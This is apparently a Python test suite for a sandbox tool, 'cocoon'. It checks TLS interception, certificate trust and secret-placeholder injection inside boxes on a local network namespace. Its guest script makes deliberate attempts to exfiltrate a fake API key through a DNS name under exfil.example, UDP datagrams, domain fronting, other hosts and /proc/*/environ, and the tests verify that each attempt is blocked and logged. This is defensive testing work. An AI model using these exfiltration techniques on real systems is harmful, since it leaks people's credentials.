"""TLS interception (--tls-intercept) through cocoon's network stack, on real boxes.

All traffic stays on this machine: a network namespace (cocoon-tls-PID) holds an HTTPS
server on 198.18.100.10:443 (198.18.0.0/15, the benchmarking range: a veth pair with
198.18.100.1/24 on the host side)
whose certificates come from a test CA of the test's own, and a small resolver on
127.0.0.1 answers api.example.com, plain.example.com and bad.example.com with that
address (the box's DNS is pointed at it with COCOON_DNS_UPSTREAM). The monitor trusts
the test CA for upstreams through COCOON_TLS_EXTRA_CA. bad.example.com gets a
self-signed certificate: no store trusts it. The boxes run --net open (the range is
no public address). The default image has python3, not curl: python is the client.
"""
import json
import os
import shutil
import socket
import struct
import subprocess
import threading
import time

import pytest

from conftest import decode

NS_ADDR, NS_HOST = "198.18.100.10", "198.18.100.1"
NS_ADDR2 = "198.18.100.11"  # the same server, an address no resolver of the box ever gave

SERVER = r"""
import json, socket, ssl, sys, threading
d, addr = sys.argv[1], sys.argv[2]
good = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
good.load_cert_chain(d + "/api.pem", d + "/api.key")
bad = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
bad.load_cert_chain(d + "/bad.pem", d + "/bad.key")
def on_sni(sock, name, ctx):
    if name == "bad.example.com":
        sock.context = bad
good.sni_callback = on_sni
log = open(d + "/requests.jsonl", "a")
lock = threading.Lock()
def serve(f, w, scheme):
    while True:
        line = f.readline()
        if not line:
            return
        method, target, _ = line.decode("latin-1").split(" ", 2)
        headers = []
        while True:
            h = f.readline().decode("latin-1")
            if h in ("\r\n", "\n", ""):
                break
            k, v = h.split(":", 1)
            headers.append([k.strip(), v.strip()])
        n = int(dict((k.lower(), v) for k, v in headers).get("content-length", "0"))
        body = f.read(n).decode("latin-1") if n else ""
        rec = {"scheme": scheme, "method": method, "target": target, "headers": headers, "body": body}
        with lock:
            log.write(json.dumps(rec) + "\n")
            log.flush()
        out = json.dumps(rec).encode()
        close = dict((k.lower(), v.lower()) for k, v in headers).get("connection") == "close"
        w(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n%s\r\n"
          % (len(out), b"Connection: close\r\n" if close else b"") + out)
        if close:
            return
def tls_conn(c):
    try:
        with good.wrap_socket(c, server_side=True) as t:
            serve(t.makefile("rb"), t.sendall, "https")
    except Exception:
        c.close()
def plain_conn(c):
    with c:
        try:
            serve(c.makefile("rb"), c.sendall, "http")
        except Exception:
            pass
def listen(port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", port))  # (inside the namespace: its two addresses only)
    s.listen(64)
    return s
def loop(s, fn):
    while True:
        c, _ = s.accept()
        threading.Thread(target=fn, args=(c,), daemon=True).start()
tls, plain = listen(443), listen(80)
threading.Thread(target=loop, args=(plain, plain_conn), daemon=True).start()
print("ready", flush=True)
loop(tls, tls_conn)
"""


def _sh(*cmd, check=True):
    return subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, check=check, timeout=60)


def make_certs(d):
    """A test CA and api.example.com's certificate from it; bad.example.com self-signed."""
    _sh("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "2",
        "-subj", "/CN=cocoon test CA", "-keyout", f"{d}/ca.key", "-out", f"{d}/ca.pem",
        "-addext", "basicConstraints=critical,CA:TRUE", "-addext", "keyUsage=critical,keyCertSign")
    _sh("openssl", "req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
        "-subj", "/CN=api.example.com", "-keyout", f"{d}/api.key", "-out", f"{d}/api.csr")
    with open(f"{d}/ext.cnf", "w") as f:
        f.write("subjectAltName=DNS:api.example.com,DNS:plain.example.com\nextendedKeyUsage=serverAuth\n")
    _sh("openssl", "x509", "-req", "-in", f"{d}/api.csr", "-CA", f"{d}/ca.pem", "-CAkey", f"{d}/ca.key",
        "-CAcreateserial", "-days", "2", "-extfile", f"{d}/ext.cnf", "-out", f"{d}/api.pem")
    _sh("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "2",
        "-subj", "/CN=bad.example.com", "-addext", "subjectAltName=DNS:bad.example.com",
        "-keyout", f"{d}/bad.key", "-out", f"{d}/bad.pem")


def dns_server(answers, stop):
    """A resolver on 127.0.0.1: answers (name -> IPv4) to A queries, NXDOMAIN else."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 0))
    s.settimeout(0.2)
    seen = []

    def serve():
        while not stop.is_set():
            try:
                q, peer = s.recvfrom(4096)
            except socket.timeout:
                continue
            qid = struct.unpack("!H", q[:2])[0]
            off, labels = 12, []
            while q[off]:
                labels.append(q[off + 1:off + 1 + q[off]].decode(errors="replace"))
                off += 1 + q[off]
            qtype = struct.unpack("!H", q[off + 1:off + 3])[0]
            name = ".".join(labels).lower()
            seen.append(name)
            ip = answers.get(name)
            ans = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton(ip) if ip and qtype == 1 else b""
            hdr = struct.pack("!HHHHHH", qid, 0x8180 | (0 if ip else 3), 1, 1 if ans else 0, 0, 0)
            s.sendto(hdr + q[12:off + 5] + ans, peer)
        s.close()

    threading.Thread(target=serve, daemon=True).start()
    return s.getsockname()[1], seen


@pytest.fixture
def upstream(tmp_path):
    """The namespace with the HTTPS server; yields (dir with ca.pem and requests.jsonl,
    resolver port, names the resolver was asked)."""
    if os.geteuid() != 0 or not shutil.which("ip") or not shutil.which("openssl"):
        pytest.skip("skipped: needs root, ip and openssl to create a network namespace")
    ns = f"cocoon-tls-{os.getpid()}"
    veth = f"cctls{os.getpid() % 100000}"
    r = _sh("ip", "netns", "add", ns, check=False)
    if r.returncode:
        pytest.skip(f"skipped: ip netns add is impossible here: {decode(r.stderr).strip()}")
    d = str(tmp_path / "upstream")
    os.makedirs(d)
    server, stop = None, threading.Event()
    try:
        make_certs(d)
        _sh("ip", "link", "add", veth, "type", "veth", "peer", "name", veth + "n")
        _sh("ip", "link", "set", veth + "n", "netns", ns)
        _sh("ip", "addr", "add", f"{NS_HOST}/24", "dev", veth)
        _sh("ip", "link", "set", veth, "up")
        _sh("ip", "netns", "exec", ns, "ip", "addr", "add", f"{NS_ADDR}/24", "dev", veth + "n")
        _sh("ip", "netns", "exec", ns, "ip", "addr", "add", f"{NS_ADDR2}/24", "dev", veth + "n")
        _sh("ip", "netns", "exec", ns, "ip", "link", "set", veth + "n", "up")
        _sh("ip", "netns", "exec", ns, "ip", "link", "set", "lo", "up")
        with open(f"{d}/server.py", "w") as f:
            f.write(SERVER)
        server = subprocess.Popen(["ip", "netns", "exec", ns, "python3", f"{d}/server.py", d, NS_ADDR],
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        assert server.stdout.readline().strip() == b"ready", decode(server.stderr.read())
        port, seen = dns_server({n: NS_ADDR for n in ("api.example.com", "plain.example.com", "bad.example.com")},
                                stop)
        yield d, port, seen
    finally:
        stop.set()
        if server:
            server.kill()
            server.wait(10)
        _sh("ip", "link", "del", veth, check=False)
        _sh("ip", "netns", "del", ns, check=False)


def diagnostics(vm, box):
    """What the box's network and monitor said, for assertion messages."""
    bdir = [n for n in vm.box_dirs() if box.startswith(n) or n.startswith(box)]
    text = "\n--- net.log:\n" + decode(vm.run("logs", "--net", box).stdout)
    if bdir:
        try:
            with open(os.path.join(vm.boxes_dir(), bdir[0], "vmm.log"), errors="replace") as f:
                text += "\n--- vmm.log:\n" + f.read()[-3000:]
        except OSError:
            pass
    return text


def requests_seen(d):
    try:
        with open(f"{d}/requests.jsonl") as f:
            return [json.loads(line) for line in f if line.strip()]
    except FileNotFoundError:
        return []


CLIENT = r"""
import json, os, socket, ssl, sys, urllib.request
def issuer(host, cadata=None):
    ctx = ssl.create_default_context(cadata=cadata) if cadata else ssl.create_default_context()
    ctx.set_alpn_protocols(["h2", "http/1.1"])  # interception answers http/1.1 only
    try:
        with socket.create_connection((host, 443), timeout=20) as s:
            with ctx.wrap_socket(s, server_hostname=host) as t:
                cert = t.getpeercert()
                iss = dict(x[0] for x in cert["issuer"])["commonName"]
                t.sendall(b"GET /probe HTTP/1.1\r\nHost: " + host.encode() + b"\r\nConnection: close\r\n\r\n")
                data = b""
                while True:
                    b = t.recv(65536)
                    if not b:
                        break
                    data += b
                return "ok issuer=%s alpn=%s status=%s" % (iss, t.selected_alpn_protocol(), data.split(b" ")[1].decode())
    except Exception as e:
        return "error %s %s" % (type(e).__name__, e)
def get(url, **headers):
    try:
        req = urllib.request.Request(url, headers=headers)
        with urllib.request.urlopen(req, timeout=20) as r:
            return "ok " + json.dumps(json.loads(r.read()))
    except Exception as e:
        return "error %s %s" % (type(e).__name__, e)
"""


def test_tls_interception(vm, upstream):
    """An intercepted host is reached through a leaf of the box CA (the guest trusts it
    through its bundle and SSL_CERT_FILE), keep-alive and a large body included; a host
    not listed is spliced untouched (the guest sees the upstream's own certificate); an
    upstream whose certificate no store trusts fails the guest's connection (logged);
    the CA's key stays in the box directory, 0600 (test_secrets restarts a box: the
    CA is appended once)."""
    d, dport, _ = upstream
    env = {"COCOON_DNS_UPSTREAM": f"127.0.0.1:{dport}", "COCOON_TLS_EXTRA_CA": f"{d}/ca.pem"}
    box = decode(vm.run("run", "-d", "--net", "open", "--tls-intercept", "api.example.com", "--tls-intercept",
                        "bad.example.com", env=env, check=0).stdout).strip()
    try:
        with open(f"{d}/ca.pem") as f:
            test_ca = f.read()
        r = vm.run("exec", box, "--", "python3", "-c", CLIENT + f"""
big = "x" * 300000
print("intercepted", issuer("api.example.com"))
print("spliced", issuer("plain.example.com", cadata={test_ca!r}))
print("urllib", get("https://api.example.com/v1/models", X_Test="1"))
import http.client
c = http.client.HTTPSConnection("api.example.com", timeout=20)
for i in range(3):
    c.request("POST", "/echo/%d" % i, body=big if i == 1 else "small", headers={{"Content-Type": "text/plain"}})
    r = c.getresponse()
    body = json.loads(r.read())
    print("keepalive", i, r.status, len(body["body"]))
print("bad", get("https://bad.example.com/"))
print("env", os.environ.get("SSL_CERT_FILE"), os.environ.get("REQUESTS_CA_BUNDLE"), os.environ.get("NODE_EXTRA_CA_CERTS"))
""", timeout=300)
        out = decode(r.stdout) + diagnostics(vm, box)
        assert "intercepted ok issuer=cocoon box" in out and "alpn=http/1.1 status=200" in out, out
        assert "spliced ok issuer=cocoon test CA" in out, out
        assert 'urllib ok {"scheme": "https", "method": "GET", "target": "/v1/models"' in out, out
        assert "keepalive 0 200 5" in out and "keepalive 1 200 300000" in out and "keepalive 2 200 5" in out, out
        assert "bad error" in out and "bad ok" not in out, out
        assert "env /etc/ssl/certs/ca-certificates.crt /etc/ssl/certs/ca-certificates.crt " \
               "/etc/ssl/certs/cocoon-box-ca.pem" in out, out
        seen = requests_seen(d)
        assert any(q["target"] == "/v1/models" and ["x_test", "1"] in [[k.lower(), v] for k, v in q["headers"]]
                   for q in seen), seen
        assert not any(q["target"] == "/" for q in seen), seen  # bad.example.com never got a request

        log = decode(vm.run("logs", "--net", box, check=0).stdout)
        assert "deny tls" in log and "upstream certificate not trusted for bad.example.com" in log, log

        # the key: host only, 0600; the guest has the certificate, byte for byte
        bdir = os.path.join(vm.boxes_dir(), [n for n in vm.box_dirs() if box.startswith(n) or n.startswith(box)][0])
        st = os.stat(os.path.join(bdir, "tls-ca.key"))
        assert st.st_mode & 0o777 == 0o600, oct(st.st_mode)
        with open(os.path.join(bdir, "tls-ca.pem")) as f:
            ca = f.read()
        r = vm.run("exec", box, "--", "sh", "-c",
                   "cat /etc/ssl/certs/cocoon-box-ca.pem; grep -c 'cocoon box interception CA' "
                   "/etc/ssl/certs/ca-certificates.crt; grep -rl 'PRIVATE KEY' /etc/ssl 2>/dev/null | wc -l",
                   check=0)
        out = decode(r.stdout)
        assert out.startswith(ca) and out[len(ca):].split() == ["1", "0"], out

    finally:
        vm.run("rm", "-f", box)


SECRET = "sk-test-REAL-7d1f0c2b9e"
FILE_SECRET = "file-REAL-41c9aa03"

SECRET_CLIENT = CLIENT + r"""
import base64, glob, re
key = os.environ["OPENAI_API_KEY"]
print("placeholder", key, bool(re.fullmatch(r"cocoon-secret-OPENAI_API_KEY-[0-9a-f]{32}", key)))
print("bearer", get("https://api.example.com/bearer", Authorization="Bearer " + key))
print("basic", get("https://api.example.com/basic",
                   Authorization="Basic " + base64.b64encode(("user:" + key).encode()).decode()))
print("rule", get("https://api.example.com/rule", X_Injected="guest value"))
def raw(host, sni, req):
    ctx = ssl.create_default_context()
    try:
        with socket.create_connection((host, 443), timeout=20) as s:
            with ctx.wrap_socket(s, server_hostname=sni) as t:
                t.sendall(req.encode())
                data = t.recv(65536)
                return "ok " + data.decode(errors="replace").split("\r\n")[0] if data else "error closed"
    except Exception as e:
        return "error %s %s" % (type(e).__name__, e)
print("fronting", raw("api.example.com", "api.example.com",
                      "GET /front HTTP/1.1\r\nHost: plain.example.com\r\nX-Key: " + key + "\r\n\r\n"))
# the right name at an address no DNS answer of the box gave (another resolver's)
print("unpinned", raw("198.18.100.11", "api.example.com",
                      "GET /unpinned HTTP/1.1\r\nHost: api.example.com\r\nX-Key: " + key + "\r\n\r\n"))
print("body", raw("api.example.com", "api.example.com",
                  "POST /body HTTP/1.1\r\nHost: api.example.com\r\nContent-Length: %d\r\n\r\nk=%s" % (len(key) + 2, key)))
print("query", get("https://api.example.com/q?k=" + key))
# exfiltration: another HTTPS host (intercepted too: the box has secrets), plain HTTP,
# a DNS name, a UDP datagram, QUIC
print("other-ok", raw("plain.example.com", "plain.example.com",
                      "GET /other-ok HTTP/1.1\r\nHost: plain.example.com\r\nConnection: close\r\n\r\n"))
print("other", raw("plain.example.com", "plain.example.com",
                   "GET /other HTTP/1.1\r\nHost: plain.example.com\r\nX-Key: " + key + "\r\n\r\n"))
def plain(req):
    try:
        with socket.create_connection(("plain.example.com", 80), timeout=20) as s:
            s.sendall(req.encode())
            data = s.recv(65536)
            return "ok " + data.decode(errors="replace").split("\r\n")[0] if data else "error closed"
    except Exception as e:
        return "error %s %s" % (type(e).__name__, e)
print("plain-ok", plain("GET /plain-ok HTTP/1.1\r\nHost: plain.example.com\r\nConnection: close\r\n\r\n"))
print("plain", plain("GET /plain HTTP/1.1\r\nHost: plain.example.com\r\nX-Key: " + key + "\r\n\r\n"))
rnd = key.rsplit("-", 1)[1]
try:
    socket.getaddrinfo(rnd[:16] + "." + rnd[16:].upper() + ".exfil.example", 80)
    print("dns resolved")
except Exception as e:
    print("dns error", type(e).__name__)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
ip = socket.gethostbyname("api.example.com")
u.sendto(b"x" + key.encode(), (ip, 9999))
u.sendto(b"\xc0quic-initial", (ip, 443))
leaks = 0
for p in glob.glob("/proc/[0-9]*/environ"):
    try:
        leaks += b"REAL" in open(p, "rb").read()
    except OSError:
        pass
print("environ-leaks", leaks)
"""


def test_secrets(vm, upstream, tmp_path):
    """The real key reaches the server in a header and in Basic credentials (from python,
    and from curl after a restart), and a
    header rule adds a file secret, while the guest only ever holds the placeholder
    (env, /proc/*/environ); the fronted, body, query and unpinned-address uses, and
    exfiltration to another HTTPS host, plain HTTP, a DNS name, UDP and QUIC are refused
    and logged;
    no host-side file of the box (nor the state database) holds a value; a later
    start reads the value from the environment again."""
    d, dport, _ = upstream
    keyfile = tmp_path / "key.txt"
    keyfile.write_text(FILE_SECRET + "\n")
    env = {"COCOON_DNS_UPSTREAM": f"127.0.0.1:{dport}", "COCOON_TLS_EXTRA_CA": f"{d}/ca.pem",
           "OPENAI_API_KEY": SECRET}
    box = decode(vm.run("run", "-d", "--net", "open", "--secret", "OPENAI_API_KEY", "--secret-host",
                        "OPENAI_API_KEY=api.example.com,*.api.example.com", "--secret", f"FILEKEY=@file:{keyfile}",
                        "--secret-host", "FILEKEY=api.example.com", "--header-rule",
                        "api.example.com:X-Injected=from the host {{FILEKEY}}", env=env, check=0).stdout).strip()
    try:
        r = vm.run("exec", box, "--", "python3", "-", input=SECRET_CLIENT.encode(), timeout=300)
        out = decode(r.stdout) + decode(r.stderr)
        out += diagnostics(vm, box)
        assert "placeholder cocoon-secret-OPENAI_API_KEY-" in out and " True\n" in out, out
        seen = {q["target"]: dict(q["headers"]) for q in requests_seen(d)}
        assert seen["/bearer"]["Authorization"] == "Bearer " + SECRET, seen
        import base64
        assert base64.b64decode(seen["/basic"]["Authorization"][6:]).decode() == "user:" + SECRET, seen
        assert seen["/rule"]["X-Injected"] == "from the host " + FILE_SECRET, seen
        assert "bearer ok" in out and "basic ok" in out and "rule ok" in out, out
        for what in ("fronting", "body", "query", "unpinned"):
            assert f"\n{what} error" in out, out
        assert "/front" not in seen and "/body" not in seen and "/unpinned" not in seen, seen
        assert not any(t.startswith("/q") for t in seen), seen
        assert "environ-leaks 0" in out, out
        assert "other-ok ok HTTP/1.1 200" in out and "\nother error" in out, out
        assert "plain-ok ok HTTP/1.1 200" in out and "\nplain error" in out, out
        assert "dns error" in out, out
        assert "/other-ok" in seen and "/plain-ok" in seen and "/other" not in seen and "/plain" not in seen, seen
        log = decode(vm.run("logs", "--net", box).stdout)
        assert "secret OPENAI_API_KEY in a request header to api.example.com: the Host header is not the TLS " \
               "server name" in log, log
        assert "secret OPENAI_API_KEY in a request body to api.example.com" in log, log
        assert "secret OPENAI_API_KEY in the request target to api.example.com" in log, log
        assert f"-> {NS_ADDR2}:443 rule=\"secret OPENAI_API_KEY in a request header to api.example.com: the address " \
               "is not this box's DNS answer for the host" in log, log
        assert "secret OPENAI_API_KEY in TLS to plain.example.com: not one of the secret's hosts" in log, log
        assert ":80 rule=\"secret OPENAI_API_KEY's placeholder in a connection that is not intercepted TLS" in log, log
        assert "exfil.example" in log and "secret OPENAI_API_KEY's placeholder in a DNS name" in log, log
        assert ":9999 rule=\"secret OPENAI_API_KEY's placeholder in a UDP datagram" in log, log
        assert ":443 rule=\"QUIC (UDP 443) is blocked in a box with secrets" in log, log

        info = decode(vm.run("inspect", box).stdout)
        assert "OPENAI_API_KEY" in info and "api.example.com" in info and "REAL" not in info, info

        # a later start needs the value again, from its environment
        vm.run("stop", box, check=0)
        r = vm.run("start", box, env={k: v for k, v in env.items() if k != "OPENAI_API_KEY"})
        assert r.returncode != 0 and "set OPENAI_API_KEY in the environment" in decode(r.stderr), decode(r.stderr)
        vm.run("start", box, env=env, check=0)
        out = decode(vm.run("exec", box, "--", "python3", "-c", CLIENT + """
print("bearer", get("https://api.example.com/again", Authorization="Bearer " + os.environ["OPENAI_API_KEY"]))
""").stdout)
        assert "bearer ok" in out, out
        # the restart installed the same CA again without appending it twice
        r = vm.run("exec", box, "--", "grep", "-c", "cocoon box interception CA", "/etc/ssl/certs/ca-certificates.crt")
        assert decode(r.stdout).strip() == "1", decode(r.stdout)
        seen = {q["target"]: dict(q["headers"]) for q in requests_seen(d)}
        assert seen["/again"]["Authorization"] == "Bearer " + SECRET, seen
        # curl (the image's, trusting the box CA through the system bundle) the same way
        r = vm.run("exec", box, "--", "sh", "-c",
                   'curl -sS -H "Authorization: Bearer $OPENAI_API_KEY" https://api.example.com/curl-bearer && '
                   'curl -sS -u "user:$OPENAI_API_KEY" https://api.example.com/curl-basic')
        assert r.returncode == 0, decode(r.stderr)
        seen = {q["target"]: dict(q["headers"]) for q in requests_seen(d)}
        assert seen["/curl-bearer"]["Authorization"] == "Bearer " + SECRET, seen
        assert base64.b64decode(seen["/curl-basic"]["Authorization"][6:]).decode() == "user:" + SECRET, seen
        vm.run("stop", box, check=0)

        # no file of ours holds a value: the box directory (disk included) and the state
        for root, _, files in os.walk(vm.home):
            for name in files:
                path = os.path.join(root, name)
                try:
                    with open(path, "rb") as f:
                        data = f.read()
                except OSError:
                    continue
                for value in (SECRET, FILE_SECRET):
                    assert value.encode() not in data, f"{value} found in {path}"
    finally:
        vm.run("rm", "-f", box)


def test_secret_violation_stops_box(vm, upstream):
    """--secret-violation block-and-stop-box: the placeholder sent to a host that is not
    the secret's is refused, net.log says so and that the box is stopped, and the box's
    monitor stops it (vmm.log names the violation). First, --secret-in puts the value in
    a query and a JSON body."""
    d, dport, _ = upstream
    env = {"COCOON_DNS_UPSTREAM": f"127.0.0.1:{dport}", "COCOON_TLS_EXTRA_CA": f"{d}/ca.pem",
           "OPENAI_API_KEY": SECRET}
    box = decode(vm.run("run", "-d", "--net", "open", "--secret", "OPENAI_API_KEY", "--secret-host",
                        "OPENAI_API_KEY=api.example.com", "--secret-in", "OPENAI_API_KEY=headers,query,body",
                        "--secret-violation", "block-and-stop-box", env=env, check=0).stdout).strip()
    try:
        r = vm.run("exec", box, "--", "python3", "-u", "-c", SECRET_CLIENT.split("def raw", 1)[0] + """
def raw(host, sni, req):
    ctx = ssl.create_default_context()
    try:
        with socket.create_connection((host, 443), timeout=20) as s:
            with ctx.wrap_socket(s, server_hostname=sni) as t:
                t.sendall(req.encode())
                data = t.recv(65536)
                return "ok " + data.decode(errors="replace").split("\\r\\n")[0] if data else "error closed"
    except Exception as e:
        return "error %s %s" % (type(e).__name__, e)
print("query", get("https://api.example.com/q2?k=" + key + "&x=1"), flush=True)
try:
    req = urllib.request.Request("https://api.example.com/json", data=json.dumps({"key": key}).encode(),
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=20) as resp:
        print("json ok", resp.status, flush=True)
except Exception as e:
    print("json error", type(e).__name__, e, flush=True)
print("other", raw("plain.example.com", "plain.example.com",
                   "GET /stop-other HTTP/1.1\\r\\nHost: plain.example.com\\r\\nX-Key: " + key + "\\r\\n\\r\\n"), flush=True)
""", timeout=120)
        out = decode(r.stdout) + decode(r.stderr)
        # the box stops on its own
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            info = json.loads(decode(vm.run("inspect", "--json", box, check=0).stdout) or "{}")
            if info.get("running") is False:
                break
            time.sleep(0.5)
        out += diagnostics(vm, box)
        assert "bearer ok" in out and "query ok" in out and "json ok 200" in out, out
        # --secret-in: the real value in the query and in a JSON body (read by its Content-Length)
        seen = {q["target"]: q for q in requests_seen(d)}
        assert f"/q2?k={SECRET}&x=1" in seen, seen
        assert json.loads(seen["/json"]["body"]) == {"key": SECRET}, seen
        assert dict((k.lower(), v) for k, v in seen["/json"]["headers"])["content-length"] == \
            str(len(seen["/json"]["body"])), seen
        assert "\nother ok" not in out, out
        assert info.get("running") is False, out
        why = "secret OPENAI_API_KEY in TLS to plain.example.com: not one of the secret's hosts"
        log = decode(vm.run("logs", "--net", box).stdout)
        assert why + "; the box is stopped" in log, log
        bdir = [n for n in vm.box_dirs() if box.startswith(n) or n.startswith(box)][0]
        with open(os.path.join(vm.boxes_dir(), bdir, "vmm.log"), errors="replace") as f:
            vlog = f.read()
        assert "stopping the box: secret violation (--secret-violation block-and-stop-box): " + why in vlog, vlog
        assert "/stop-other" not in {q["target"] for q in requests_seen(d)}
    finally:
        vm.run("rm", "-f", box)
